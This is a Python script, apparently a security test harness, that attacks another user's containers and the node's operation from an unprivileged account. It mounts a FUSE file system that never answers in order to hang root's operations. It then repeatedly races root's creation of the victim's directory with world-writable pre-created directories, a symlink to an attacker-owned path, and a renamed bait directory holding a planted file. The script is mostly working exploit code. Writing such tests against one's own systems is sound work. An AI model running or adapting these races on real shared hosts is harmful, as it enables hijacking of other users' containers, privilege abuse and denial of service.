"""
Attack the containers of another user and the operation of the node. Runs as an unprivileged user.

Usage: attack.py END VICTIM DIRECTORY... (a file, the UID of the victim, parents of user directories)
Continues until the file END exists, and prints the successful attacks.
"""

import array
import itertools
import os
import socket
import subprocess
import sys
from pathlib import Path


def hang(point: Path) -> int:
    """Mount a file system that never answers, and return the file descriptor that keeps it mounted."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    environment = {**os.environ, "_FUSE_COMMFD": str(theirs.fileno())}
    subprocess.run(["/usr/bin/fusermount3", "--", str(point)], env=environment, pass_fds=[theirs.fileno()], check=True)
    ancillary = ours.recvmsg(1, socket.CMSG_SPACE(4))[1]
    return array.array("i", ancillary[0][2])[0]


def tricks(directory: Path, victim: str, number: int) -> list:
    """Return the attacks on the creation of the victim's directory by root."""
    theirs = directory / f"user-{victim}"
    bait = directory / f"bait-{os.getpid()}-{number}"
    prize = Path.home() / "prize"
    return [
        lambda: theirs.mkdir(mode=0o777),
        lambda: theirs.symlink_to(prize),
        lambda: bait.mkdir(mode=0o777),
        lambda: (bait / "trap").write_text("run me"),
        lambda: bait.rename(theirs),
        lambda: theirs.rename(bait),
    ]


def main() -> None:
    """Try all attacks repeatedly."""
    end, victim, directories = Path(sys.argv[1]), sys.argv[2], [Path(name) for name in sys.argv[3:]]
    (Path.home() / "prize").mkdir(exist_ok=True)
    held = [hang(directory / f"user-{os.getuid()}") for directory in directories]
    print(f"holds {len(held)}", flush=True)
    won = set()
    for number in itertools.count():
        for directory in directories:
            for trick, attempt in enumerate(tricks(directory, victim, number)):
                try:
                    attempt()
                    won.add(f"trick {trick} in {directory}")
                except OSError:
                    pass
        if end.exists():
            break
    print("\n".join(sorted(won)) or "won nothing", flush=True)


if __name__ == "__main__":
    main()
